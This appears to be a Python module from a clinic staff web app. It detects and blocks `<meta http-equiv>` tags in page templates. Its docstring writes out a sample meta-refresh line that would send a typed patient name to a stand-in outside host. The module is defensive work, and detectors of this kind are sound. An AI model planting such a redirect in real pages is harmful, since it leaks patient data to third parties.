"""Nothing on a staff page may send the browser somewhere else on its own.

The pages' Content-Security-Policy keeps scripts, pictures, frames and form posts on
the app's own address, but no CSP directive governs navigation: a clinic's override
of a staff page (templates/app/*.html) holding `<meta http-equiv="refresh"
content="0;url=http://elsewhere/?n={{ form.patient }}">` would take the browser, and
the name just typed, to another host. So a staff page whose HTML holds any `<meta
http-equiv>` (refresh, a policy of its own, a cookie) is not sent: the app answers
with the problem at the override's file and line instead. The built-in pages have
none; a page needs none, the server's headers say what a page is.
"""

from __future__ import annotations

import os
import re
from html.parser import HTMLParser
from pathlib import Path

from jinja2 import BaseLoader, Environment, TemplateError

from ..problems import Problem

_HTTP_EQUIV = re.compile(r"http-equiv", re.IGNORECASE)
MESSAGE = (
    "a staff page may not hold <meta http-equiv> (a refresh can take the page, and "
    "what staff typed in it, to another address): remove it from the template"
)


class _MetaFinder(HTMLParser):
    """Finds `<meta>` tags that carry an `http-equiv` attribute, however written
    (`<META HTTP-EQUIV=refresh>`, `<meta/http-equiv=...>`)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.found = True

    handle_startendtag = handle_starttag


def holds_meta_http_equiv(html: str) -> bool:
    """Whether a page holds a `<meta http-equiv>`. An attribute name is never written
    with character references, so a page without the bare words holds none."""
    if not _HTTP_EQUIV.search(html):
        return False
    finder = _MetaFinder()
    finder.feed(html)
    finder.close()
    return finder.found


def meta_problem(templates: Path, env: Environment, page: str) -> Problem:
    """Where the `<meta http-equiv>` of `page` is written: the first line of the
    content root's templates that holds the words, each read through the app's own
    template loader (the guarded reader); else the page's own template."""
    loader = env.loader
    if isinstance(loader, BaseLoader):
        for name in _template_names(templates):
            try:
                source, filename, _ = loader.get_source(env, name)
            except TemplateError:
                continue
            for number, line in enumerate(source.splitlines(), start=1):
                if _HTTP_EQUIV.search(line):
                    return Problem(Path(filename or name), number, "", MESSAGE, "template")
    return Problem(templates / page, 1, "", MESSAGE, "template")


def _template_names(templates: Path) -> list[str]:
    """The names of the root's own templates (`app/aid.html`), app pages first."""
    names = []
    for folder, _, files in os.walk(templates):
        for file in files:
            relative = Path(folder, file).relative_to(templates)
            names.append(relative.as_posix())
    return sorted(names, key=lambda name: (not name.startswith("app/"), name))
